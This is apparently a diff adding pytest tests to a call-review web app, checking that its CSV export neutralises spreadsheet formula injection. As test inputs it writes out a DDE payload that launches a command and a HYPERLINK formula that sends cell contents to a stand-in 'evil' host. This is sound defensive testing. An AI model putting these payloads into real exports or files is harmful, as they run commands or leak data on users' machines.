@@ -102,3 +102,43 @@ def test_configured_host_names_are_accepted(hostile: dict) -> None:
     client = TestClient(create_app(ServeConfig(hostile["url"], allowed_hosts=("qa.example.com",))), base_url=BASE)
     assert client.get("/calls", headers={"Host": "qa.example.com"}).status_code == 200
     assert client.get("/calls", headers={"Host": "evil.example.com"}).status_code == 400
+
+
+# --- CSV formula injection -------------------------------------------------------------------
+
+@pytest.mark.parametrize(("value", "expected"), [
+    ("=1+1", "'=1+1"), ("+33 1 23", "'+33 1 23"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
+    ("plain", "plain"), ("a=b", "a=b"), (-3.5, -3.5), (None, None), ("", ""),
+])
+def test_safe_cell(value: object, expected: object) -> None:
+    from callqa.csvsafe import safe_cell
+
+    assert safe_cell(value) == expected
+
+
+def test_disclosure_csv_neutralises_formulas(tmp_path: Path) -> None:
+    import csv
+    import io
+
+    import numpy as np
+    import soundfile as sf
+
+    audio = tmp_path / "a.wav"
+    sf.write(audio, np.zeros(800, dtype=np.float32), 8000)
+    record = make_record("=cmd|' /C calc'!A0", audio, "@agent", "2026-11-02")
+    record["offers"][0]["product"] = "+device protection"
+    record["offers"][0]["disclosures"]["price"]["evidence"]["quote"] = '=HYPERLINK("http://evil/?"&A1)'
+    url = default_url(tmp_path)
+    store = open_store(url)
+    with store.session() as session:
+        save_record(session, record)
+    store.close()
+    client = TestClient(create_app(ServeConfig(url, (tmp_path,))), base_url=BASE)
+    client.post(f"/calls/{record['call_id']}/decisions", data={"target_kind": "flag", "target_key": "CONTINUED_AFTER_DECLINE:offer-1",
+                                                             "decision": "confirm", "note": "-1+1", "reviewer": "x"})
+    body = client.get("/disclosures.csv").text
+    rows = list(csv.reader(io.StringIO(body)))
+    cells = [c for row in rows[1:] for c in row]
+    assert cells, body
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
+    assert "'=HYPERLINK(\"http://evil/?\"&A1)" in cells and "'@agent" in cells and "'+device protection" in cells
